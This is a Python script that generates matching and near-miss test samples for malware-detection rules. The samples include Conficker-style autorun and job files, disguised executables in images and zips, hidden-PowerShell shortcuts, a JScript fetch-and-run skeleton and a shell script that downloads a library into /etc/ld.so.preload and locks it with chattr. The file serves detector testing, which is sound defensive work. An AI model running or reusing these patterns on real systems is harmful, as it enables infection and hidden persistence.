"""One sample that fires each starter rule and one near miss that does not, made by code.

Nothing here works: programs are headers without code, the job and the shortcut are skeletons,
paths lead nowhere.  EICAR is put together from parts, so that this file is not found as one."""
import io
import struct
import zipfile

EICAR = b'X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + b'EICAR-STANDARD-' + b'ANTIVIRUS-TEST-FILE' + b'!$H+H*'
SID = 'S-5-3-42-2819952290-8240758988-879315005-3665'
MARKER = b'YAMORI-TEST-' + b'MARKER:'


def wide(text):
    return text.encode('utf-16-le')


def autorun(path='.\\RECYCLER\\' + SID + '\\jwgkvsq.vmx,ahaezedrn', icon='%SystemRoot%\\system32\\shell32.dll,4',
            padding=0):
    """The four lines of the public sample, with comment lines of junk between them."""
    junk = b''.join(b';' + bytes((i * 37 + j * 11) % 128 + 128 for j in range(60)) + b'\r\n' for i in range(padding))
    lines = [b'[AUTorUN', junk, b'AcTION=Open folder to view files', junk, b'icon  =' + icon.encode(),
             b'shelLExECUte=RuNdLl32.EXE ' + path.encode(), b'useAuTopLAY=1', junk]
    return b'\r\n'.join(lines)


HONEST_AUTORUN = b'[autorun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\nlabel=Driver disc\r\n'


def job(application, comment='Created by NetScheduleJobAdd.'):
    """[MS-TSCH] 2.4: 68 bytes of fixed section, instance count, counted UTF-16 strings."""
    def text(s):
        return struct.pack('<H', len(s) + 1) + wide(s + '\0') if s else struct.pack('<H', 0)
    fixed = struct.pack('<HH16sHH', 0x0501, 1, bytes(16), 70, 0).ljust(68, b'\0')
    body = struct.pack('<H', 0) + text(application) + text('qwert.xy,abcde') + text('') + text('SYSTEM') + text(comment)
    return fixed + body + bytes(64)


def pe(sections, magic=0x10B, stub=True):
    """MZ header, DOS stub text, PE header with a count of sections; no code."""
    dos = bytearray(128)
    dos[0:24] = struct.pack('<2s11H', b'MZ', 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0)
    if stub:
        dos[78:78 + 39] = b'This program cannot be run in DOS mode.'
    struct.pack_into('<I', dos, 0x3C, 128)
    coff = struct.pack('<4sHHIIIHH', b'PE\0\0', 0x14C, sections, 0, 0, 0, 224, 0x102)
    optional = struct.pack('<H', magic).ljust(224, b'\0')
    return bytes(dos) + coff + optional + bytes(40 * max(sections, 1) + 512)


def elf():
    return (b'\x7fELF\x02\x01\x01' + bytes(9) + struct.pack('<HHI', 2, 0x3E, 1)).ljust(256, b'\0')


PNG = b'\x89PNG\r\n\x1a\n' + struct.pack('>I4sIIBBBBB', 13, b'IHDR', 1, 1, 8, 0, 0, 0, 0) + bytes(64)
JPEG = b'\xff\xd8\xff\xe0\0\x10JFIF\0' + bytes(100)


def archive(*names):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        for name in names:
            z.writestr(zipfile.ZipInfo(name, (2009, 6, 30, 12, 0, 0)), b'nothing')
    return out.getvalue()


def shortcut(arguments):
    head = struct.pack('<I', 0x4C) + bytes.fromhex('0114020000000000c000000000000046') + bytes(56)
    return head + wide('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe') + wide(arguments)


def reg(connections, checked):
    text = ('Windows Registry Editor Version 5.00\r\n\r\n'
            '[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters]\r\n'
            f'"TcpNumConnections"=dword:{connections:08x}\r\n\r\n'
            '[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced\\Folder\\Hidden\\SHOWALL]\r\n'
            f'"CheckedValue"=dword:{checked:08x}\r\n')
    return b'\xff\xfe' + wide(text)


FETCH = b'''var sh = new ActiveXObject("WScript.Shell"); var h = new ActiveXObject("MSXML2.XMLHTTP");
var s = new ActiveXObject("ADODB.Stream"); /* goes nowhere */ s.SaveToFile("%s", 2); sh.Run("%s");
'''
PRELOAD = b'''#!/bin/sh
# goes nowhere
curl -s http://192.0.2.1/nothing -o /tmp/nothing.so
echo /tmp/nothing.so > /etc/ld.so.preload
chattr +i /etc/ld.so.preload
echo '* * * * * root true' > /etc/cron.d/nothing
'''

# rule: (sample that fires it, near miss); the miss may fire other rules, never this one
SAMPLES = {
    'EICAR_Test_File': (EICAR + b'\r\n', b'x' + EICAR),
    'Conficker_Autorun': (autorun(padding=40), autorun('.\\RECYCLER\\S-1-5-21-1-2-3-1000\\a.dll,b')),
    'Autorun_From_Recycle_Bin': (b'[autorun]\r\nshellexecute=RECYCLER\\x.exe\r\n', HONEST_AUTORUN),
    'Autorun_Folder_Disguise': (autorun('.\\folder\\x.dll,y'), autorun('.\\folder\\x.dll,y', icon='setup.exe,0')),
    'Autorun_Oversized': (autorun('.\\folder\\x.dll,y', icon='a.ico', padding=60), autorun(icon='a.ico')),
    'Conficker_At_Job': (job('rundll32.exe'), job('defrag.exe')),
    'Conficker_Removable_Path': (b'copy to E:\\RECYCLER\\' + SID.encode() + b'\\jwgkvsq.vmx,start',
                                 b'a text about jwgkvsq.vmx in RECYCLER\\S-5-3-42'),
    'Conficker_Reg_Export': (reg(0x00FFFFFE, 0), reg(0x00FFFFFE, 1)),
    'Pe_Without_Sections': (pe(0), pe(1)),
    'Picture_With_Windows_Program': (PNG + pe(1), PNG + b'MZ' + bytes(300)),
    'Picture_With_Linux_Program': (JPEG + elf(), JPEG + b'\x7fELF' + bytes(300)),
    'Zip_Name_Reversed': (archive('photo\u202egpj.exe'), archive('photo\u202e-rtl.txt')),
    'Zip_Double_Extension': (archive('invoice.pdf.exe'), archive('invoice.pdf', 'setup.exe', 'a.pdf.gz')),
    'Shortcut_Hidden_PowerShell': (shortcut(' -w hidden -c exit'), shortcut(' -c Get-Date')),
    'Script_Fetch_And_Run': (FETCH, FETCH.replace(b'ADODB.Stream', b'Scripting.FileSystemObject')),
    'Shell_Preload_Persistence': (PRELOAD, PRELOAD.replace(b'chattr +i', b'ls -l')),
    'Yamori.Test.Marker.UNOFFICIAL': (b'text ' + MARKER + b' text', b'text ' + MARKER[:-1] + b' text'),
}
